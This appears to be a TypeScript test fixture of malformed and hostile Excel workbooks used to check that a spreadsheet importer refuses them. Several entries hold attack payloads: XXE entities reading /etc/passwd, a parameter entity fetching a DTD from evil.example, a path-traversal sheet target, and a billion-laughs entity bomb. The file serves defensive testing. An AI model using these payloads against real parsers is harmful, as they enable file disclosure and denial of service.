// Workbooks as attackers and broken programs write them.
import { HEAD, rows, SHEET, sheetOf, text, workbook } from '#tests/builders/raw-workbook.ts';
import { aZip } from '#tests/builders/zip.ts';
import { type BadInput, imported, refused } from './bad-input.ts';

const DAMAGED = 'it is damaged or cut off; download it again';
const NO_SHEET = 'the workbook has no sheet with cells';
const NO_ROWS = 'no sheet of the workbook holds rows';

export const WORKBOOKS: readonly BadInput[] = [
  imported('the least that is a workbook', 'a.xlsx', workbook({}), { created: 1 }, { words: ['words'] }),
  imported('a workbook named CSV', 'a.csv', workbook({}), { created: 1 }, { words: ['words'] }),
  imported(
    'a workbook in a ZIP',
    'a.zip',
    aZip([{ name: 'a.xlsx', content: workbook({}) }]),
    { created: 1 },
    { words: ['words'] },
  ),
  refused(
    'a workbook without its list of sheets',
    'a.xlsx',
    workbook({ 'xl/workbook.xml': '<workbook/>' }),
    NO_SHEET,
  ),
  refused(
    'a workbook without its relations',
    'a.xlsx',
    workbook({ 'xl/_rels/workbook.xml.rels': null }),
    NO_SHEET,
  ),
  refused('a workbook without its sheet', 'a.xlsx', workbook({ 'xl/worksheets/sheet1.xml': null }), NO_SHEET),
  refused(
    'a sheet that lies outside',
    'a.xlsx',
    workbook({
      'xl/_rels/workbook.xml.rels':
        '<Relationships><Relationship Id="rId1" Target="../../../etc/passwd"/></Relationships>',
    }),
    NO_SHEET,
  ),
  refused(
    'a sheet that lies in the net',
    'a.xlsx',
    workbook({
      'xl/_rels/workbook.xml.rels':
        '<Relationships><Relationship Id="rId1" TargetMode="External" Target="http://evil.example/s.xml"/></Relationships>',
    }),
    NO_SHEET,
  ),
  imported(
    'a sheet said to have all rows and columns there can be',
    'a.xlsx',
    sheetOf(SHEET.replace('<sheetData>', '<dimension ref="A1:XFD1048576"/><sheetData>')),
    { created: 1 },
    { words: ['words'] },
  ),
  imported(
    'a sheet of 50,000 empty rows, and one behind them',
    'a.xlsx',
    sheetOf(
      SHEET.replace(
        '</sheetData>',
        `${Array.from({ length: 50_000 }, (_, at) => `<row r="${at + 3}" ht="${at * 7919}"/>`).join('')}<row r="1048576">${text('A1048576', '2')}${text('B1048576', 'last')}</row></sheetData>`,
      ),
    ),
    { created: 2 },
    {
      items: [
        { verbatim: 'words', line: 2 },
        { verbatim: 'last', line: 1_048_576 },
      ],
    },
  ),
  refused(
    'a workbook without its shared texts',
    'a.xlsx',
    workbook({ 'xl/sharedStrings.xml': null }),
    DAMAGED,
  ),
  imported(
    'a workbook whose sheet has its texts within, without shared ones',
    'a.xlsx',
    workbook({
      'xl/sharedStrings.xml': null,
      'xl/worksheets/sheet1.xml': rows(
        `${text('A1', 'id')}${text('B1', 'comment')}`,
        `${text('A2', '1')}${text('B2', 'words')}`,
      ),
    }),
    { created: 1 },
    { words: ['words'] },
  ),
  refused(
    'an entity that reads a file in an attribute',
    'a.xlsx',
    sheetOf(`<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${SHEET.replace('t="s"', 't="&f;"')}`),
    DAMAGED,
  ),
  refused(
    'an entity of parameters that reads the net',
    'a.xlsx',
    sheetOf(
      `<!DOCTYPE x [<!ENTITY % f SYSTEM "http://evil.example/x.dtd"> %f;]>${SHEET.replace('>1<', '>&g;<')}`,
    ),
    DAMAGED,
  ),
  refused('a sheet without rows', 'a.xlsx', sheetOf(rows()), NO_ROWS),
  refused(
    'a sheet of empty cells',
    'a.xlsx',
    sheetOf(rows('<c r="A1"/><c r="B1"/>', '<c r="A2"/>')),
    NO_ROWS,
  ),
  refused('a sheet that is no XML', 'a.xlsx', sheetOf('not xml at all'), DAMAGED),
  refused('a sheet that is cut off', 'a.xlsx', sheetOf(SHEET.slice(0, -60)), DAMAGED),
  refused(
    'a sheet with tags in the wrong order',
    'a.xlsx',
    sheetOf('<worksheet><sheetData><row></sheetData></row></worksheet>'),
    DAMAGED,
  ),
  refused(
    'a list of sheets that is no XML',
    'a.xlsx',
    workbook({ 'xl/workbook.xml': '{"sheets":[]}' }),
    DAMAGED,
  ),
  refused(
    'shared texts that are no XML',
    'a.xlsx',
    workbook({ 'xl/sharedStrings.xml': '<sst><si><t>id' }),
    DAMAGED,
  ),
  refused(
    'a billion laughs',
    'a.xlsx',
    sheetOf(
      `<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${SHEET.replace('>1<', '>&c;<')}`,
    ),
    DAMAGED,
  ),
  refused(
    'an entity that reads a file',
    'a.xlsx',
    workbook({
      'xl/sharedStrings.xml':
        '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><sst><si><t>id</t></si><si><t>comment</t></si><si><t>&f;</t></si></sst>',
    }),
    DAMAGED,
  ),
  imported(
    'a document type that declares nothing used',
    'a.xlsx',
    sheetOf(`<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${SHEET}`),
    { created: 1 },
    { words: ['words'] },
  ),
  imported(
    'a sheet nested 100,000 deep',
    'a.xlsx',
    sheetOf(
      rows(
        HEAD,
        `${text('A2', '1')}<c r="B2" t="s"><v>2</v></c>${'<x>'.repeat(100_000)}${'</x>'.repeat(100_000)}`,
      ),
    ),
    { created: 1 },
    { words: ['words'] },
  ),
];
